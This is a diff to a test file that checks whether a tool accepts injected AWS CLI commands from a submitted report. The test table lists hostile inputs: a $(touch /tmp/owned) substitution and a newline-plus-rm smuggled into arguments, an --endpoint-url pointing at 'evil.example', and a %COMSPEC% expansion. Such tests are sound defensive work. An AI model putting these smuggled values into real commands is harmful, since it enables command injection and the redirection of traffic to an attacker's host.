@@ -27,8 +27,8 @@ describe('a report that somebody sent', () => {
     "aws identitystore list-users --endpoint-url 'https://evil.example'",
     'aws cloudtrail lookup-events --region $(touch /tmp/owned)',
     "aws cloudtrail lookup-events --region 'a'\nrm",
-    'aws identitystore list-users --region "us-east-1" --identity-store-id "d-1234567890" --filters "AttributePath=UserName,AttributeValue=%COMSPEC%"',
-    'aws identitystore list-users --region "acme-corp-1" --identity-store-id "d-1234567890" --filters "AttributePath=UserName,AttributeValue=USER_NAME"',
+    'aws identitystore list-users --region "us-east-1" --identity-store-id "d-1234567890" --filters "AttributePath=UserName,AttributeValue=%COMSPEC%" --output json',
+    'aws identitystore list-users --region "acme-corp-1" --identity-store-id "d-1234567890" --filters "AttributePath=UserName,AttributeValue=USER_NAME" --output json',
     'aws cloudtrail lookup-events --region "us-east-1" --lookup-attributes "AttributeKey=EventName,AttributeValue=ExternalIdPDirectoryLogin" --start-time "9999-99-99T99:99:99Z" --end-time "x"',
   ])('brings no command of its own: %s', async (command) => {
     const { outsideBrowser } = await opened((json) =>
